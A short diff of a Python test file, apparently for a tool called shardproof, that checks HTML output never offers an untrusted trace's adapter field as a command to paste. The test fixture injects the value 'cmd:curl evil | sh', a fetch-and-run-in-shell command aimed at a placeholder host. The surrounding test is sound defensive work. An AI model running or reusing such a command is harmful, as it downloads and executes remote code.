@@ -206,7 +206,7 @@ class TestForeignText:
 
     def test_of_a_file_is_not_offered_to_be_run(self) -> None:
         """
-        The line to be pasted names an adapter that comes with the package, and no command of a file.
+        The line to be pasted names an adapter, and never a command: whoever pastes it chooses what is run.
         """
         story = told.long(6)
         foreign = evolve(story, trace=evolve(story.trace, adapter="cmd:curl evil | sh"))
@@ -214,7 +214,7 @@ class TestForeignText:
         ours, theirs = (FORMS["html"].write(Shown(s, Path("a b.trace.json"))) for s in (story, foreign))
 
         assert "shardproof replay 'a b.trace.json' --adapter faulty:no-deduplication " in read(ours).words()
-        assert "shardproof replay 'a b.trace.json' --adapter ADAPTER " in read(theirs).words()
+        assert "shardproof replay 'a b.trace.json' --adapter NAME " in read(theirs).words()
 
 
 def test_a_sentence_has_code_and_links_to_steps_that_there_are() -> None:
